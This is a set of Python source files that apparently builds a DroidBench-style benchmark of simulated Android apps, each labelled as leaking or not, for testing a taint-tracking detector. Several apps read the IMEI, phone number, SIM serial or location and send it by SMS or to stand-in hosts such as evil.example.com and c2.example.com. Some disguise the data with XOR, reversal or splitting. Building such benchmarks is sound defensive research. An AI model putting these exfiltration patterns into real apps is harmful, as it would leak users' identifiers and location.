    b.move_result(2)
    b.const(3, 0)
    b.label("loop")
    b.if_ge(3, 2, "done")
    b.invoke("String.charAt", 0, 3)
    b.move_result(4)
    b.invoke("StringBuilder.appendChar", 1, 4)
    b.add_int_lit8(3, 3, 1)
    b.goto("loop")
    b.label("done")
    builder_to_string(b, 1, 5)
    send_sms_to(b, 5, 6, 7)
    b.return_void()
    return [b.build()]


def _source_code_specific1(device: AndroidDevice) -> List[Method]:
    """SourceCodeSpecific1 (leaky): the sink sits behind nested conditionals."""
    b = MethodBuilder("SourceCodeSpecific1.main", registers=14)
    fetch_imei(b, 0)
    b.const(1, 7)
    b.const(2, 3)
    b.if_le(1, 2, "skip")  # 7 > 3: fall through
    b.add_int(3, 1, 2)
    b.const(4, 10)
    b.if_ne(3, 4, "skip")  # 7+3 == 10: fall through into the leak
    concat_const_and(b, "id=", 0, 5, 6, 7)
    send_sms_to(b, 5, 8, 9)
    b.label("skip")
    b.return_void()
    return [b.build()]


def _string_formatter(device: AndroidDevice) -> List[Method]:
    """StringFormatter (leaky): the paper's §2 running example —
    msgY = msgX + "&imei=" + getDeviceId(); msgZ = msgY + "&dummy"."""
    b = MethodBuilder("StringFormatter.main", registers=14)
    b.const_string(0, "type=sms")
    fetch_imei(b, 1)
    new_builder(b, 2)
    append_string(b, 2, 0)
    append_const(b, 2, "&imei=", 3)
    append_string(b, 2, 1)
    builder_to_string(b, 2, 4)  # msgY
    new_builder(b, 5)
    append_string(b, 5, 4)
    append_const(b, 5, "&dummy", 3)
    builder_to_string(b, 5, 6)  # msgZ
    send_sms_to(b, 6, 7, 8)
    b.return_void()
    return [b.build()]


def _string_concat(device: AndroidDevice) -> List[Method]:
    """StringConcat (leaky): String.concat copies the IMEI into the result."""
    b = MethodBuilder("StringConcat.main", registers=12)
    b.const_string(0, "imei:")
    fetch_imei(b, 1)
    b.invoke("String.concat", 0, 1)
    b.move_result_object(2)
    send_log(b, 2, 3)
    b.return_void()
    return [b.build()]


def _exception1(device: AndroidDevice) -> List[Method]:
    """Exception1 (leaky): sensitive data rides an exception's message."""
    b = MethodBuilder("Exception1.main", registers=14)
    fetch_imei(b, 0)
    b.label("try_start")
    b.new_instance(1, "java/lang/Exception")
    b.invoke_direct("Throwable.<init>", 1, 0)
    b.throw(1)
    b.label("try_end")
    b.label("handler")
    b.move_exception(2)
    b.invoke("Throwable.getMessage", 2)
    b.move_result_object(3)
    send_sms_to(b, 3, 4, 5)
    b.return_void()
    b.catch("try_start", "try_end", "handler", "java/lang/Exception")
    return [b.build()]


def _exception2(device: AndroidDevice) -> List[Method]:
    """Exception2 (benign): an exception is thrown, but the sent message is
    a constant."""
    b = MethodBuilder("Exception2.main", registers=14)
    fetch_imei(b, 0)  # read but never attached to the exception
    b.label("try_start")
    b.const_string(1, "something went wrong")
    b.new_instance(2, "java/lang/Exception")
    b.invoke_direct("Throwable.<init>", 2, 1)
    b.throw(2)
    b.label("try_end")
    b.label("handler")
    b.move_exception(3)
    b.invoke("Throwable.getMessage", 3)
    b.move_result_object(4)
    send_log(b, 4, 5)
    b.return_void()
    b.catch("try_start", "try_end", "handler", "java/lang/Exception")
    return [b.build()]


def _unreachable_code(device: AndroidDevice) -> List[Method]:
    """UnreachableCode (benign): the leaking branch can never execute."""
    b = MethodBuilder("UnreachableCode.main", registers=14)
    fetch_imei(b, 0)
    b.const(1, 0)
    b.if_eqz(1, "benign")  # always taken
    concat_const_and(b, "id=", 0, 2, 3, 4)  # dead code
    send_sms_to(b, 2, 5, 6)
    b.label("benign")
    b.const_string(7, "all quiet")
    send_sms_to(b, 7, 8, 9)
    b.return_void()
    return [b.build()]


def _integer_encoding(device: AndroidDevice) -> List[Method]:
    """IntegerEncoding (leaky): phone digits -> parseInt -> appendInt.

    The int->string conversion routes each digit through the runtime
    helper, so detection needs NI >= ~7."""
    b = MethodBuilder("IntegerEncoding.main", registers=14)
    fetch_phone_number(b, 0)
    b.const(1, 2)
    b.const(2, 8)
    b.invoke("String.substring", 0, 1, 2)  # drop the "+1" prefix
    b.move_result_object(3)
    b.invoke_static("Integer.parseInt", 3)
    b.move_result(4)
    new_builder(b, 5)
    append_const(b, 5, "num=", 6)
    b.invoke("StringBuilder.appendInt", 5, 4)
    builder_to_string(b, 5, 7)
    send_sms_to(b, 7, 8, 9)
    b.return_void()
    return [b.build()]


def _substring_leak(device: AndroidDevice) -> List[Method]:
    """Substring (leaky): a prefix of the IMEI still identifies the device."""
    b = MethodBuilder("Substring.main", registers=12)
    fetch_imei(b, 0)
    b.const(1, 0)
    b.const(2, 8)
    b.invoke("String.substring", 0, 1, 2)
    b.move_result_object(3)
    b.const_string(4, "http://evil.example.com/?tac=")
    b.invoke("String.concat", 4, 3)
    b.move_result_object(5)
    send_http(b, 5, 6, 7)
    b.return_void()
    return [b.build()]


APPS = [
    BenchApp(
        "GeneralJava.Loop1", "general_java", True, _loop1, "Loop1.main",
        "Char-by-char IMEI copy through charAt in a loop.", 2,
    ),
    BenchApp(
        "GeneralJava.Loop2", "general_java", False, _loop2, "Loop2.main",
        "Same loop over public data; IMEI fetched but never read.",
    ),
    BenchApp(
        "GeneralJava.SourceCodeSpecific1", "general_java", True,
        _source_code_specific1, "SourceCodeSpecific1.main",
        "Leak behind nested arithmetic conditionals.", 2,
    ),
    BenchApp(
        "GeneralJava.StringFormatter", "general_java", True,
        _string_formatter, "StringFormatter.main",
        "The paper's running example: type=sms&imei=<id>&dummy over SMS.", 2,
    ),
    BenchApp(
        "GeneralJava.StringConcat", "general_java", True,
        _string_concat, "StringConcat.main",
        "String.concat copies the IMEI; result logged.", 2,
    ),
    BenchApp(
        "GeneralJava.Exception1", "general_java", True,
        _exception1, "Exception1.main",
        "IMEI rides an exception message across a throw/catch.", 1,
    ),
    BenchApp(
        "GeneralJava.Exception2", "general_java", False,
        _exception2, "Exception2.main",
        "Exception control flow, but only a constant message is sent.",
    ),
    BenchApp(
        "GeneralJava.UnreachableCode", "general_java", False,
        _unreachable_code, "UnreachableCode.main",
        "The leaking branch is dead code.",
    ),
    BenchApp(
        "GeneralJava.IntegerEncoding", "general_java", True,
        _integer_encoding, "IntegerEncoding.main",
        "Digits parsed to int and re-formatted; needs NI >= 9.", 9,
    ),
    BenchApp(
        "GeneralJava.Substring", "general_java", True,
        _substring_leak, "Substring.main",
        "IMEI prefix exfiltrated over HTTP.", 2,
    ),
]

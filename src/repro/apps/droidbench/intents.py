"""DroidBench category: InterAppCommunication — data through Intents."""

from __future__ import annotations

from typing import List

from repro.android.device import AndroidDevice
from repro.dalvik.builder import MethodBuilder
from repro.dalvik.vm import Method
from repro.apps.droidbench.common import (
    BenchApp,
    concat_const_and,
    fetch_imei,
    fetch_phone_number,
    send_http,
    send_sms_to,
)


def _intent_sink1(device: AndroidDevice) -> List[Method]:
    """IntentSink1 (leaky): IMEI rides an intent extra into another
    component, which sends it."""
    receiver = MethodBuilder("IntentSink1.onReceive", registers=12, ins=1)
    receiver.const_string(0, "payload")
    receiver.invoke("Intent.getStringExtra", 11, 0)
    receiver.move_result_object(1)
    send_sms_to(receiver, 1, 2, 3)
    receiver.return_void()

    main = MethodBuilder("IntentSink1.main", registers=8)
    main.new_instance(0, "android/content/Intent")
    main.invoke_direct("Intent.<init>", 0)
    fetch_imei(main, 1)
    main.const_string(2, "payload")
    main.invoke("Intent.putExtra", 0, 2, 1)
    main.invoke("IntentSink1.onReceive", 0)  # the framework delivers it
    main.return_void()
    return [receiver.build(), main.build()]


def _intent_sink2(device: AndroidDevice) -> List[Method]:
    """IntentSink2 (benign): only a harmless extra crosses the intent."""
    receiver = MethodBuilder("IntentSink2.onReceive", registers=12, ins=1)
    receiver.const_string(0, "note")
    receiver.invoke("Intent.getStringExtra", 11, 0)
    receiver.move_result_object(1)
    send_sms_to(receiver, 1, 2, 3)
    receiver.return_void()

    main = MethodBuilder("IntentSink2.main", registers=8)
    main.new_instance(0, "android/content/Intent")
    main.invoke_direct("Intent.<init>", 0)
    fetch_imei(main, 1)  # read but never attached
    main.const_string(2, "note")
    main.const_string(3, "see you at 6")
    main.invoke("Intent.putExtra", 0, 2, 3)
    main.invoke("IntentSink2.onReceive", 0)
    main.return_void()
    return [receiver.build(), main.build()]


def _intent_source(device: AndroidDevice) -> List[Method]:
    """IntentSource (leaky): a 'received' intent carrying the phone number
    is unpacked and forwarded over HTTP."""
    handler = MethodBuilder("IntentSource.handle", registers=14, ins=1)
    handler.const_string(0, "number")
    handler.invoke("Intent.getStringExtra", 13, 0)
    handler.move_result_object(1)
    concat_const_and(handler, "http://collect.example.com/?n=", 1, 2, 3, 4)
    send_http(handler, 2, 5, 6)
    handler.return_void()

    main = MethodBuilder("IntentSource.main", registers=8)
    main.new_instance(0, "android/content/Intent")
    main.invoke_direct("Intent.<init>", 0)
    fetch_phone_number(main, 1)
    main.const_string(2, "number")
    main.invoke("Intent.putExtra", 0, 2, 1)
    main.invoke("IntentSource.handle", 0)
    main.return_void()
    return [handler.build(), main.build()]


def _intent_result_leak(device: AndroidDevice) -> List[Method]:
    """IntentResultLeak (leaky): a callee component returns the secret in a
    result intent; the caller sends it."""
    provider = MethodBuilder("IntentResultLeak.provide", registers=10, ins=1)
    fetch_imei(provider, 0)
    provider.const_string(1, "result")
    provider.invoke("Intent.putExtra", 9, 1, 0)
    provider.return_void()

    main = MethodBuilder("IntentResultLeak.main", registers=10)
    main.new_instance(0, "android/content/Intent")
    main.invoke_direct("Intent.<init>", 0)
    main.invoke("IntentResultLeak.provide", 0)
    main.const_string(1, "result")
    main.invoke("Intent.getStringExtra", 0, 1)
    main.move_result_object(2)
    send_sms_to(main, 2, 3, 4)
    main.return_void()
    return [provider.build(), main.build()]


APPS = [
    BenchApp(
        "InterAppCommunication.IntentSink1", "inter_app", True,
        _intent_sink1, "IntentSink1.main",
        "IMEI in an intent extra, sent by the receiving component.", 1,
    ),
    BenchApp(
        "InterAppCommunication.IntentSink2", "inter_app", False,
        _intent_sink2, "IntentSink2.main",
        "Only a harmless extra crosses the intent.",
    ),
    BenchApp(
        "InterAppCommunication.IntentSource", "inter_app", True,
        _intent_source, "IntentSource.main",
        "Phone number unpacked from an intent, forwarded over HTTP.", 2,
    ),
    BenchApp(
        "InterAppCommunication.IntentResultLeak", "inter_app", True,
        _intent_result_leak, "IntentResultLeak.main",
        "Secret returned through a result intent, sent by the caller.", 1,
    ),
]

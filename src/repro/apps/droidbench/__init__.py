"""The DroidBench-style benchmark suite: 57 apps (41 leaky, 16 benign)."""

from repro.apps.droidbench.common import AppBuilder, BenchApp
from repro.apps.droidbench.suite import (
    all_apps,
    app_by_name,
    record_app,
    record_suite,
    run_app,
)

__all__ = [
    "AppBuilder",
    "BenchApp",
    "all_apps",
    "app_by_name",
    "record_app",
    "record_suite",
    "run_app",
]

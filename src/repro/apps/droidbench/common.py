"""Shared plumbing for authoring DroidBench-style apps.

Every app is a :class:`BenchApp`: a named, categorised bytecode program
with ground truth (does it actually leak sensitive data to a sink?).
Builders receive the target :class:`~repro.android.device.AndroidDevice`
so they can define app classes before their methods reference fields.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, List, Optional, Sequence

from repro.android.device import AndroidDevice
from repro.dalvik.builder import MethodBuilder
from repro.dalvik.vm import Method

#: An app builder defines classes on the device and returns its methods.
AppBuilder = Callable[[AndroidDevice], List[Method]]


@dataclass(frozen=True)
class BenchApp:
    """One benchmark app with its ground truth."""

    name: str
    category: str
    leaks: bool
    build: AppBuilder
    entry: str
    description: str = ""
    #: The smallest NI at which PIFT is expected to catch the leak (None
    #: for benign apps); used by tests and documented in EXPERIMENTS.md.
    min_window_hint: Optional[int] = None


def fetch_imei(b: MethodBuilder, dst: int) -> None:
    b.invoke_static("TelephonyManager.getDeviceId")
    b.move_result_object(dst)


def fetch_phone_number(b: MethodBuilder, dst: int) -> None:
    b.invoke_static("TelephonyManager.getLine1Number")
    b.move_result_object(dst)


def fetch_sim_serial(b: MethodBuilder, dst: int) -> None:
    b.invoke_static("TelephonyManager.getSimSerialNumber")
    b.move_result_object(dst)


def fetch_location(b: MethodBuilder, dst: int) -> None:
    b.invoke_static("LocationManager.getLastKnownLocation")
    b.move_result_object(dst)


def send_sms(b: MethodBuilder, text: int, dest: int, scratch: int) -> None:
    """sendTextMessage(dest, null, text)."""
    b.const(scratch, 0)
    b.invoke("SmsManager.sendTextMessage", dest, scratch, text)


def send_sms_to(b: MethodBuilder, text: int, dest_reg: int, scratch: int,
                number: str = "+8615912345678") -> None:
    b.const_string(dest_reg, number)
    send_sms(b, text, dest_reg, scratch)


def send_http(b: MethodBuilder, url_string: int, url_obj: int, conn: int) -> None:
    """new URL(spec).openConnection().connect()."""
    b.new_instance(url_obj, "java/net/URL")
    b.invoke_direct("URL.<init>", url_obj, url_string)
    b.invoke("URL.openConnection", url_obj)
    b.move_result_object(conn)
    b.invoke("HttpURLConnection.connect", conn)


def send_log(b: MethodBuilder, message: int, tag_reg: int, tag: str = "INFO") -> None:
    b.const_string(tag_reg, tag)
    b.invoke_static("Log.i", tag_reg, message)


def new_builder(b: MethodBuilder, dst: int) -> None:
    b.new_instance(dst, "java/lang/StringBuilder")
    b.invoke_direct("StringBuilder.<init>", dst)


def append_string(b: MethodBuilder, builder: int, text: int) -> None:
    b.invoke("StringBuilder.append", builder, text)


def append_const(b: MethodBuilder, builder: int, text: str, scratch: int) -> None:
    b.const_string(scratch, text)
    b.invoke("StringBuilder.append", builder, scratch)


def builder_to_string(b: MethodBuilder, builder: int, dst: int) -> None:
    b.invoke("StringBuilder.toString", builder)
    b.move_result_object(dst)


def concat_const_and(b: MethodBuilder, prefix: str, value: int, dst: int,
                     builder: int, scratch: int) -> None:
    """dst = prefix + value, via StringBuilder (how javac compiles '+')."""
    new_builder(b, builder)
    append_const(b, builder, prefix, scratch)
    append_string(b, builder, value)
    builder_to_string(b, builder, dst)

"""DroidBench supplement: source/sink coverage and obfuscated direct flows.

These apps widen the matrix the paper evaluates — every source (device ID,
phone number, SIM serial, location) crossed with every sink (SMS, HTTP,
log), plus value transformations (XOR, reversal, splitting, numeric
round-trips) whose native distances place them at different points of the
Figure 11 bands.
"""

from __future__ import annotations

from typing import List

from repro.android.device import AndroidDevice
from repro.dalvik.builder import MethodBuilder
from repro.dalvik.vm import Method
from repro.apps.droidbench.common import (
    BenchApp,
    append_const,
    append_string,
    builder_to_string,
    concat_const_and,
    fetch_imei,
    fetch_location,
    fetch_phone_number,
    fetch_sim_serial,
    new_builder,
    send_http,
    send_log,
    send_sms_to,
)


def _phone_number_sms(device: AndroidDevice) -> List[Method]:
    b = MethodBuilder("PhoneNumberSMS.main", registers=12)
    fetch_phone_number(b, 0)
    concat_const_and(b, "msisdn=", 0, 1, 2, 3)
    send_sms_to(b, 1, 4, 5)
    b.return_void()
    return [b.build()]


def _sim_serial_http(device: AndroidDevice) -> List[Method]:
    b = MethodBuilder("SimSerialHTTP.main", registers=12)
    fetch_sim_serial(b, 0)
    concat_const_and(b, "http://c2.example.com/?iccid=", 0, 1, 2, 3)
    send_http(b, 1, 4, 5)
    b.return_void()
    return [b.build()]


def _device_id_log(device: AndroidDevice) -> List[Method]:
    b = MethodBuilder("DeviceIdLog.main", registers=12)
    fetch_imei(b, 0)
    concat_const_and(b, "device: ", 0, 1, 2, 3)
    send_log(b, 1, 4)
    b.return_void()
    return [b.build()]


def _location_http(device: AndroidDevice) -> List[Method]:
    """Both coordinates in one HTTP query — the GPS/float path (NI>=10)."""
    b = MethodBuilder("LocationHTTP.main", registers=14)
    fetch_location(b, 0)
    b.invoke("Location.getLatitude", 0)
    b.move_result_wide(2)
    b.invoke("Location.getLongitude", 0)
    b.move_result_wide(4)
    new_builder(b, 6)
    append_const(b, 6, "http://geo.example.com/?lat=", 7)
    b.invoke("StringBuilder.appendDouble", 6, 2, 3)
    append_const(b, 6, "&lon=", 7)
    b.invoke("StringBuilder.appendDouble", 6, 4, 5)
    builder_to_string(b, 6, 8)
    send_http(b, 8, 9, 10)
    b.return_void()
    return [b.build()]


def _multi_source_leak(device: AndroidDevice) -> List[Method]:
    b = MethodBuilder("MultiSourceLeak.main", registers=14)
    fetch_imei(b, 0)
    fetch_phone_number(b, 1)
    new_builder(b, 2)
    append_const(b, 2, "id=", 3)
    append_string(b, 2, 0)
    append_const(b, 2, "&num=", 3)
    append_string(b, 2, 1)
    builder_to_string(b, 2, 4)
    send_sms_to(b, 4, 5, 6)
    b.return_void()
    return [b.build()]


def _xor_obfuscation(device: AndroidDevice) -> List[Method]:
    """Each char XORed with a key before transmission (distance-5 flow)."""
    b = MethodBuilder("XorObfuscation.main", registers=16)
    fetch_imei(b, 0)
    b.invoke("String.length", 0)
    b.move_result(2)
    b.new_array(4, 2, "[C")
    b.const(3, 0)
    b.const(11, 0x2A)  # the XOR key
    b.invoke("String.toCharArray", 0)
    b.move_result_object(1)
    b.label("loop")
    b.if_ge(3, 2, "done")
    b.aget_char(5, 1, 3)
    b.xor_int(6, 5, 11)
    b.aput_char(6, 4, 3)
    b.add_int_lit8(3, 3, 1)
    b.goto("loop")
    b.label("done")
    b.invoke_static("String.fromChars", 4)
    b.move_result_object(7)
    send_sms_to(b, 7, 8, 9)
    b.return_void()
    return [b.build()]


def _reverse_string(device: AndroidDevice) -> List[Method]:
    """The IMEI reversed char by char, then texted."""
    b = MethodBuilder("ReverseString.main", registers=16)
    fetch_imei(b, 0)
    b.invoke("String.length", 0)
    b.move_result(2)
    b.new_array(4, 2, "[C")
    b.const(3, 0)
    b.invoke("String.toCharArray", 0)
    b.move_result_object(1)
    b.label("loop")
    b.if_ge(3, 2, "done")
    b.aget_char(5, 1, 3)
    b.sub_int(6, 2, 3)
    b.add_int_lit8(6, 6, -1)  # mirror index
    b.aput_char(5, 4, 6)
    b.add_int_lit8(3, 3, 1)
    b.goto("loop")
    b.label("done")
    b.invoke_static("String.fromChars", 4)
    b.move_result_object(7)
    send_sms_to(b, 7, 8, 9)
    b.return_void()
    return [b.build()]


def _char_array_copy(device: AndroidDevice) -> List[Method]:
    """System.arraycopy relays the tainted buffer."""
    b = MethodBuilder("CharArrayCopy.main", registers=16)
    fetch_imei(b, 0)
    b.invoke("String.length", 0)
    b.move_result(2)
    b.new_array(4, 2, "[C")
    b.invoke("String.toCharArray", 0)
    b.move_result_object(1)
    b.const(5, 0)
    b.invoke_static("System.arraycopy", 1, 5, 4, 5, 2)
    b.invoke_static("String.fromChars", 4)
    b.move_result_object(6)
    send_sms_to(b, 6, 7, 8)
    b.return_void()
    return [b.build()]


def _long_device_id(device: AndroidDevice) -> List[Method]:
    """Digits re-encoded through the long->string helper path (NI ~ 9)."""
    b = MethodBuilder("LongDeviceId.main", registers=16)
    fetch_phone_number(b, 0)
    b.const(1, 2)
    b.const(2, 10)
    b.invoke("String.substring", 0, 1, 2)
    b.move_result_object(3)
    b.invoke_static("Integer.parseInt", 3)
    b.move_result(4)
    b.raw("int-to-long", a=6, b=4)
    new_builder(b, 8)
    append_const(b, 8, "n:", 9)
    b.invoke("StringBuilder.appendLong", 8, 6, 7)
    builder_to_string(b, 8, 10)
    send_sms_to(b, 10, 11, 12)
    b.return_void()
    return [b.build()]


def _split_reassemble(device: AndroidDevice) -> List[Method]:
    """The IMEI split into halves, shipped in swapped order."""
    b = MethodBuilder("SplitReassemble.main", registers=16)
    fetch_imei(b, 0)
    b.const(1, 0)
    b.const(2, 7)
    b.invoke("String.substring", 0, 1, 2)
    b.move_result_object(3)  # first half
    b.const(1, 7)
    b.const(2, 15)
    b.invoke("String.substring", 0, 1, 2)
    b.move_result_object(4)  # second half
    b.invoke("String.concat", 4, 3)  # swapped
    b.move_result_object(5)
    concat_const_and(b, "frag=", 5, 6, 7, 8)
    send_sms_to(b, 6, 9, 10)
    b.return_void()
    return [b.build()]


def _two_sinks(device: AndroidDevice) -> List[Method]:
    """A clean log line and a tainted SMS from the same run."""
    b = MethodBuilder("TwoSinks.main", registers=14)
    b.const_string(0, "startup ok")
    send_log(b, 0, 1)
    fetch_imei(b, 2)
    concat_const_and(b, "x=", 2, 3, 4, 5)
    send_sms_to(b, 3, 6, 7)
    b.return_void()
    return [b.build()]


APPS = [
    BenchApp("Misc.PhoneNumberSMS", "misc", True, _phone_number_sms,
             "PhoneNumberSMS.main", "Phone number over SMS.", 2),
    BenchApp("Misc.SimSerialHTTP", "misc", True, _sim_serial_http,
             "SimSerialHTTP.main", "SIM serial in an HTTP query.", 2),
    BenchApp("Misc.DeviceIdLog", "misc", True, _device_id_log,
             "DeviceIdLog.main", "IMEI written to the log.", 2),
    BenchApp("Misc.LocationHTTP", "misc", True, _location_http,
             "LocationHTTP.main",
             "Latitude and longitude in one HTTP query (NI>=10).", 10),
    BenchApp("Misc.MultiSourceLeak", "misc", True, _multi_source_leak,
             "MultiSourceLeak.main", "IMEI and phone number together.", 2),
    BenchApp("Misc.XorObfuscation", "misc", True, _xor_obfuscation,
             "XorObfuscation.main", "Per-char XOR before sending.", 5),
    BenchApp("Misc.ReverseString", "misc", True, _reverse_string,
             "ReverseString.main", "IMEI reversed then texted.", 2),
    BenchApp("Misc.CharArrayCopy", "misc", True, _char_array_copy,
             "CharArrayCopy.main", "System.arraycopy relays the buffer.", 2),
    BenchApp("Misc.LongDeviceId", "misc", True, _long_device_id,
             "LongDeviceId.main",
             "Digits re-encoded via the long->string helper.", 11),
    BenchApp("Misc.SplitReassemble", "misc", True, _split_reassemble,
             "SplitReassemble.main", "IMEI halves shipped swapped.", 2),
    BenchApp("Misc.TwoSinks", "misc", True, _two_sinks,
             "TwoSinks.main", "Clean log line plus tainted SMS.", 2),
]

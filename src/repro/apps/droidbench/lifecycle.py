"""DroidBench category: Lifecycle — data carried across component callbacks.

The main method plays the Android framework, driving the documented
callback sequences (onCreate -> onStart -> onResume, service start/stop,
broadcast delivery).
"""

from __future__ import annotations

from typing import List

from repro.android.device import AndroidDevice
from repro.dalvik.builder import MethodBuilder
from repro.dalvik.vm import Method
from repro.apps.droidbench.common import (
    BenchApp,
    concat_const_and,
    fetch_imei,
    fetch_phone_number,
    send_log,
    send_sms_to,
)


def _activity_lifecycle1(device: AndroidDevice) -> List[Method]:
    """ActivityLifecycle1 (leaky): IMEI stored in onCreate via a static
    field, sent in onResume."""
    on_create = MethodBuilder("ActivityLifecycle1.onCreate", registers=8)
    fetch_imei(on_create, 0)
    on_create.sput_object(0, "ActivityLifecycle1.stash_slot")
    on_create.return_void()

    on_resume = MethodBuilder("ActivityLifecycle1.onResume", registers=10)
    on_resume.sget_object(0, "ActivityLifecycle1.stash_slot")
    send_sms_to(on_resume, 0, 1, 2)
    on_resume.return_void()

    main = MethodBuilder("ActivityLifecycle1.main", registers=4)
    main.invoke_static("ActivityLifecycle1.onCreate")
    main.invoke_static("ActivityLifecycle1.onResume")
    main.return_void()
    return [on_create.build(), on_resume.build(), main.build()]


def _activity_lifecycle2(device: AndroidDevice) -> List[Method]:
    """ActivityLifecycle2 (leaky): instance field carries the secret from
    onStart to onStop."""
    device.define_class("ActivityLifecycle2/Activity", fields=[("secret", 4)])
    on_start = MethodBuilder("ActivityLifecycle2.onStart", registers=8, ins=1)
    fetch_imei(on_start, 0)
    on_start.iput_object(0, 7, "ActivityLifecycle2/Activity.secret")
    on_start.return_void()

    on_stop = MethodBuilder("ActivityLifecycle2.onStop", registers=10, ins=1)
    on_stop.iget_object(0, 9, "ActivityLifecycle2/Activity.secret")
    concat_const_and(on_stop, "bye&id=", 0, 1, 2, 3)
    send_sms_to(on_stop, 1, 4, 5)
    on_stop.return_void()

    main = MethodBuilder("ActivityLifecycle2.main", registers=6)
    main.new_instance(0, "ActivityLifecycle2/Activity")
    main.invoke("ActivityLifecycle2.onStart", 0)
    main.invoke("ActivityLifecycle2.onStop", 0)
    main.return_void()
    return [on_start.build(), on_stop.build(), main.build()]


def _activity_saved_state(device: AndroidDevice) -> List[Method]:
    """ActivitySavedState (benign): the saved secret is replaced by a
    default before anything is sent."""
    device.define_class("ActivitySavedState/Activity", fields=[("state", 4)])
    on_save = MethodBuilder("ActivitySavedState.onSaveInstanceState", registers=8, ins=1)
    fetch_imei(on_save, 0)
    on_save.iput_object(0, 7, "ActivitySavedState/Activity.state")
    on_save.return_void()

    on_restore = MethodBuilder(
        "ActivitySavedState.onRestoreInstanceState", registers=8, ins=1
    )
    on_restore.const_string(0, "default state")
    on_restore.iput_object(0, 7, "ActivitySavedState/Activity.state")
    on_restore.return_void()

    on_resume = MethodBuilder("ActivitySavedState.onResume", registers=10, ins=1)
    on_resume.iget_object(0, 9, "ActivitySavedState/Activity.state")
    send_log(on_resume, 0, 1)
    on_resume.return_void()

    main = MethodBuilder("ActivitySavedState.main", registers=6)
    main.new_instance(0, "ActivitySavedState/Activity")
    main.invoke("ActivitySavedState.onSaveInstanceState", 0)
    main.invoke("ActivitySavedState.onRestoreInstanceState", 0)
    main.invoke("ActivitySavedState.onResume", 0)
    main.return_void()
    return [on_save.build(), on_restore.build(), on_resume.build(), main.build()]


def _service_lifecycle(device: AndroidDevice) -> List[Method]:
    """ServiceLifecycle (leaky): onStartCommand collects, onDestroy sends."""
    device.define_class("ServiceLifecycle/Service", fields=[("collected", 4)])
    on_start = MethodBuilder("ServiceLifecycle.onStartCommand", registers=10, ins=1)
    fetch_phone_number(on_start, 0)
    on_start.iput_object(0, 9, "ServiceLifecycle/Service.collected")
    on_start.return_void()

    on_destroy = MethodBuilder("ServiceLifecycle.onDestroy", registers=12, ins=1)
    on_destroy.iget_object(0, 11, "ServiceLifecycle/Service.collected")
    concat_const_and(on_destroy, "http://sink.example.com/?p=", 0, 1, 2, 3)
    on_destroy.new_instance(4, "java/net/URL")
    on_destroy.invoke_direct("URL.<init>", 4, 1)
    on_destroy.invoke("URL.openConnection", 4)
    on_destroy.move_result_object(5)
    on_destroy.invoke("HttpURLConnection.connect", 5)
    on_destroy.return_void()

    main = MethodBuilder("ServiceLifecycle.main", registers=6)
    main.new_instance(0, "ServiceLifecycle/Service")
    main.invoke("ServiceLifecycle.onStartCommand", 0)
    main.invoke("ServiceLifecycle.onDestroy", 0)
    main.return_void()
    return [on_start.build(), on_destroy.build(), main.build()]


def _broadcast_receiver_leak(device: AndroidDevice) -> List[Method]:
    """BroadcastReceiverLeak (leaky): a receiver reads the SIM serial on
    delivery and texts it."""
    on_receive = MethodBuilder("BroadcastReceiverLeak.onReceive", registers=12, ins=1)
    on_receive.invoke_static("TelephonyManager.getSimSerialNumber")
    on_receive.move_result_object(0)
    concat_const_and(on_receive, "sim=", 0, 1, 2, 3)
    send_sms_to(on_receive, 1, 4, 5)
    on_receive.return_void()

    main = MethodBuilder("BroadcastReceiverLeak.main", registers=6)
    main.new_instance(0, "android/content/Intent")
    main.invoke_direct("Intent.<init>", 0)
    main.invoke("BroadcastReceiverLeak.onReceive", 0)
    main.return_void()
    return [on_receive.build(), main.build()]


def _application_lifecycle(device: AndroidDevice) -> List[Method]:
    """ApplicationLifecycle (benign): app-level state survives callbacks,
    but only a build tag is reported."""
    on_create = MethodBuilder("ApplicationLifecycle.onCreate", registers=8)
    fetch_imei(on_create, 0)
    on_create.sput_object(0, "ApplicationLifecycle.device_id")
    on_create.const_string(1, "build-2016.04")
    on_create.sput_object(1, "ApplicationLifecycle.build_tag")
    on_create.return_void()

    on_terminate = MethodBuilder("ApplicationLifecycle.onTerminate", registers=10)
    on_terminate.sget_object(0, "ApplicationLifecycle.build_tag")
    send_log(on_terminate, 0, 1)
    on_terminate.return_void()

    main = MethodBuilder("ApplicationLifecycle.main", registers=4)
    main.invoke_static("ApplicationLifecycle.onCreate")
    main.invoke_static("ApplicationLifecycle.onTerminate")
    main.return_void()
    return [on_create.build(), on_terminate.build(), main.build()]


APPS = [
    BenchApp(
        "Lifecycle.ActivityLifecycle1", "lifecycle", True,
        _activity_lifecycle1, "ActivityLifecycle1.main",
        "Static field carries the IMEI from onCreate to onResume.", 1,
    ),
    BenchApp(
        "Lifecycle.ActivityLifecycle2", "lifecycle", True,
        _activity_lifecycle2, "ActivityLifecycle2.main",
        "Instance field carries the IMEI from onStart to onStop.", 2,
    ),
    BenchApp(
        "Lifecycle.ActivitySavedState", "lifecycle", False,
        _activity_saved_state, "ActivitySavedState.main",
        "Saved secret replaced with a default before the sink.",
    ),
    BenchApp(
        "Lifecycle.ServiceLifecycle", "lifecycle", True,
        _service_lifecycle, "ServiceLifecycle.main",
        "Phone number collected at service start, posted at destroy.", 2,
    ),
    BenchApp(
        "Lifecycle.BroadcastReceiverLeak", "lifecycle", True,
        _broadcast_receiver_leak, "BroadcastReceiverLeak.main",
        "Broadcast receiver texts the SIM serial.", 2,
    ),
    BenchApp(
        "Lifecycle.ApplicationLifecycle", "lifecycle", False,
        _application_lifecycle, "ApplicationLifecycle.main",
        "Secret parked in app state; only a build tag is reported.",
    ),
]

"""Synthetic dex corpora for Figure 10's static opcode-frequency tables.

The paper counts opcode occurrences over the dex files of Google stock
applications (~1.2M disassembly lines) and the Android system libraries
(Core/Framework/Services, ~1.3M lines).  Those dex files are not available
offline, so the corpora here are synthesised from the paper's *published*
top-30 shares (Figure 10a/10b), with the residual probability mass spread
over the remaining opcodes by a deterministic Zipf-like tail.  The
counting, ranking, and table rendering in
:mod:`repro.analysis.bytecode_stats` then run on real Counters, exactly as
they would over disassembled dex files.
"""

from __future__ import annotations

from collections import Counter
from typing import Dict, List, Sequence, Tuple

from repro.dalvik.bytecode import OPCODES

#: Figure 10a — Google stock applications, 1.2M lines, top 30 opcodes.
PAPER_APP_DISTRIBUTION: Sequence[Tuple[str, float]] = (
    ("invoke-virtual", 0.1106),
    ("move-result-object", 0.0898),
    ("iget-object", 0.0710),
    ("const/4", 0.0519),
    ("const-string", 0.0485),
